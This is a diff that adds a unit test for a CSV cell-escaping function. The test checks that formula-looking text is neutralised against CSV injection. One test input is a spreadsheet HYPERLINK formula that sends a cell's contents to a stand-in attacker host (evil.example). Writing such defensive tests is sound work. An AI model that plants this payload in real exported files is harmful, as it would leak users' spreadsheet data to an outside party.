@@ -20,6 +20,14 @@ describe('csvCell', () => {
     expect(csvCell('line\rbreak')).toBe('"line\rbreak"');
   });
 
+  it('keeps a spreadsheet from reading a text cell as a formula (CSV injection): a quote before =, +, -, @, a tab or a carriage return', () => {
+    expect(csvCell('=HYPERLINK("https://evil.example/?d="&B2,"Open")')).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Open"")"');
+    expect(['+441632960000', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(csvCell)).toEqual(["'+441632960000", "'-2+3", "'@SUM(A1)", "'\tx", '"\'\rx"']);
+    // Numbers are numbers: a negative amount stays as it is.
+    expect(csvCell(-12.5)).toBe('-12.5');
+    expect(toCsv([{ note: '=1+1' }])).toBe("note\r\n'=1+1\r\n");
+  });
+
   it('writes objects as JSON, quoted', () => {
     expect(csvCell({ sku: 'RAM-16', qty: 2 })).toBe('"{""sku"":""RAM-16"",""qty"":2}"');
   });
